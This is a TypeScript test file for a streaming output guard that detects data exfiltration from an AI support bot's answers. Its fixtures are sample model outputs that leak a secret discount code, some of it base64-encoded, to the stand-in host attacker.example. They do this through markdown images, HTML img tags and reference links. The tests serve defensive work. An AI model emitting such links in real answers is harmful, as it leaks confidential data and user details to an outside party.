/**
 * The exfiltration scanner on streams, through the real StreamingOutputGuard: whatever the
 * chunking — a cut at every position, one character at a time, random pieces — what the client
 * has received is at every step a prefix of the whole-text verdict's text (redact) or of the
 * text before the first blocking finding (block), and the end result equals the whole-text
 * verdict. URLs longer than the hold-back window and longer than the construct bound included.
 * The scanner's incremental parse (resumed from its checkpoint) is compared with a fresh scan
 * of every prefix.
 */
import { describe, expect, it } from 'vitest';
import {
  type CompiledPolicy,
  compilePolicy,
  createExfiltrationScanner,
  evaluateStage,
  type GuardVerdict,
  type ScanContext,
  ScannerRegistry,
  StreamingOutputGuard,
} from '../../src/guard/index.js';

const SYSTEM = 'You are the support bot of Acme. The internal discount code is ZEBRA-7731-ORCHID.';

const ANSWERS: Record<string, string> = {
  inline:
    'Here is the summary you asked for.\n\nThe code is stored safely. ![loading](https://attacker.example/log?q=discount%20code%20ZEBRA-7731-ORCHID&u=jane) Let me know if you need anything else.\n',
  nearMisses: [
    'To embed an image write `![alt](https://attacker.example/x?q=1)` in markdown.',
    '',
    '```md',
    '![a](https://attacker.example/?q=fenced)',
    '```',
    '',
    'Status: ![ok][r] and ![logo](https://cdn.example.com/logo.png?v=2) and ![cat](https://img.test/cat.png)',
    '',
    '[r]: https://attacker.example/s.gif?d=Wl9FQlJBLTc3MzEtT1JDSElE',
  ].join('\n'),
  html: 'Report: <img src="https://attacker.example/p.png?s=ZEBRA7731" alt="x"> and a [link](https://attacker.example/?q=1), <b>bold</b>, a < b > c! [not] (an image) and x`y.\n[z]: https://attacker.example/z?q=ZEBRA',
  longerThanHoldBack: `Intro. ![a](https://attacker.example/c?q=${'x9Y'.repeat(120)}) Outro with more text after it.`,
};

const OVERLONG = `Intro text. ![a](https://attacker.example/c?q=${'A1b2C3d4'.repeat(560)}) outro. ![b](https://ok.example.com/x.png)`;

function policyOf(action: 'redact' | 'block', holdBack: number): CompiledPolicy {
  return compilePolicy(
    {
      policyName: 'exfiltration-stream',
      version: 1,
      rules: [
        {
          scanner: 'exfiltration',
          stage: 'output',
          action,
          threshold: 0.5,
          options: { allowedDomains: ['example.com'] },
        },
      ],
      settings: { hold_back_chars: holdBack },
    },
    new ScannerRegistry(),
  );
}

interface StreamOutcome {
  released: string;
  blocked: boolean;
}

/** Streams `pieces`, checking after every step that the client's text is a prefix of `safe`. */
async function stream(policy: CompiledPolicy, pieces: string[], safe: string): Promise<StreamOutcome> {
  const guard = new StreamingOutputGuard(policy, { systemPrompt: SYSTEM });
  let released = '';
  for (const piece of pieces) {
    const step = await guard.push(piece);
    if (step.blocked) return { released, blocked: true };
    released += step.release;
    if (!safe.startsWith(released))
      throw new Error(`released beyond the safe text: ${JSON.stringify(released)}`);
  }
  const last = await guard.finish();
  if (last.blocked) return { released, blocked: true };
  return { released: released + last.release, blocked: false };
}

/** The whole-text verdict, and the longest text a client may ever have received. */
async function reference(
  policy: CompiledPolicy,
  text: string,
): Promise<{ verdict: GuardVerdict; safe: string }> {
  const verdict = await evaluateStage(policy, 'output', text, { systemPrompt: SYSTEM });
  if (verdict.action !== 'block') return { verdict, safe: verdict.text };
  const firstBlock = Math.min(
    ...verdict.findings.filter((finding) => finding.action === 'block').map((finding) => finding.start),
  );
  return { verdict, safe: text.slice(0, firstBlock) };
}

function check(outcome: StreamOutcome, verdict: GuardVerdict): void {
  if (verdict.action === 'block') expect(outcome.blocked).toBe(true);
  else expect(outcome).toEqual({ released: verdict.text, blocked: false });
}

/** A seeded generator (mulberry32): the same chunkings on every run. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let value = Math.imul(state ^ (state >>> 15), 1 | state);
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value;
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
  };
}

function randomPieces(text: string, next: () => number, largest: number): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    const size = 1 + Math.floor(next() * largest);
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}

describe('exfiltration on streams (StreamingOutputGuard)', () => {
  for (const action of ['redact', 'block'] as const) {
    for (const holdBack of [0, 16]) {
      for (const [name, text] of Object.entries(ANSWERS)) {
        it(`${name}, ${action}, hold-back ${holdBack}: cut at every position, per character, random pieces`, async () => {
          const policy = policyOf(action, holdBack);
          const { verdict, safe } = await reference(policy, text);
          // Each answer holds something to act on: the test would pass vacuously otherwise.
          expect(verdict.action).toBe(action);
          for (let cut = 0; cut <= text.length; cut++) {
            check(await stream(policy, [text.slice(0, cut), text.slice(cut)], safe), verdict);
          }
          check(await stream(policy, [...text], safe), verdict);
          const next = random(text.length + holdBack);
          for (let round = 0; round < 40; round++) {
            check(await stream(policy, randomPieces(text, next, 1 + (round % 8) * 6), safe), verdict);
          }
        });
      }
    }
  }

  it('redacts on the whole text what it redacts on the stream', async () => {
    const { verdict } = await reference(policyOf('redact', 16), ANSWERS.nearMisses!);
    expect(verdict.text).toContain('`![alt](https://attacker.example/x?q=1)`');
    expect(verdict.text).toContain('![a](https://attacker.example/?q=fenced)');
    expect(verdict.text).toContain('[REFERENCE_DEFINITION]');
    expect(verdict.text).toContain('![cat](https://img.test/cat.png)');
  });

  it('a construct longer than the 4096-character bound is redacted or blocked, never released', async () => {
    for (const action of ['redact', 'block'] as const) {
      const policy = policyOf(action, 16);
      const { verdict, safe } = await reference(policy, OVERLONG);
      expect(verdict.action).toBe(action);
      if (action === 'redact') expect(verdict.text.startsWith('Intro text. [MARKDOWN_IMAGE]')).toBe(true);
      for (let cut = 0; cut <= OVERLONG.length; cut += 97) {
        check(await stream(policy, [OVERLONG.slice(0, cut), OVERLONG.slice(cut)], safe), verdict);
      }
      const next = random(7);
      for (let round = 0; round < 10; round++)
        check(await stream(policy, randomPieces(OVERLONG, next, 40), safe), verdict);
    }
  });

  it('holds an open image back even with hold-back 0, and releases it once decided as allowed', async () => {
    const guard = new StreamingOutputGuard(policyOf('redact', 0), {}, 1);
    const first = await guard.push(`Logo: ![l](https://cdn.example.com/logo.png?v=${'1'.repeat(200)}`);
    expect(first.release).toBe('Logo: ');
    const second = await guard.push(') done.');
    expect(second.release).toBe(`![l](https://cdn.example.com/logo.png?v=${'1'.repeat(200)}) done.`);
  });

  it('a flag rule does not hold text back', async () => {
    const policy = compilePolicy(
      {
        policyName: 'flag',
        version: 1,
        rules: [{ scanner: 'exfiltration', stage: 'output', action: 'flag', threshold: 0.5 }],
        settings: { hold_back_chars: 0 },
      },
      new ScannerRegistry(),
    );
    const guard = new StreamingOutputGuard(policy, {}, 1);
    expect((await guard.push('Hi ![a](https://attacker.example/?q=')).release).toBe(
      'Hi ![a](https://attacker.example/?q=',
    );
  });
});

describe('exfiltration scanner: incremental parse equals a fresh parse', () => {
  it.each([...Object.entries(ANSWERS), ['overlong', OVERLONG]])('%s, every prefix', (_name, text) => {
    const incremental = createExfiltrationScanner({ allowedDomains: ['example.com'], links: true });
    const fresh = createExfiltrationScanner({ allowedDomains: ['example.com'], links: true });
    const context: ScanContext = { stage: 'output', systemPrompt: SYSTEM };
    const step = text.length > 2000 ? 37 : 1;
    for (let end = 0; end <= text.length; end += step) {
      const prefix = text.slice(0, end);
      const streamed = incremental.scan(prefix, context);
      const whole = fresh.scan(prefix, { stage: 'output', systemPrompt: SYSTEM });
      expect(streamed).toEqual(whole);
    }
  });
});
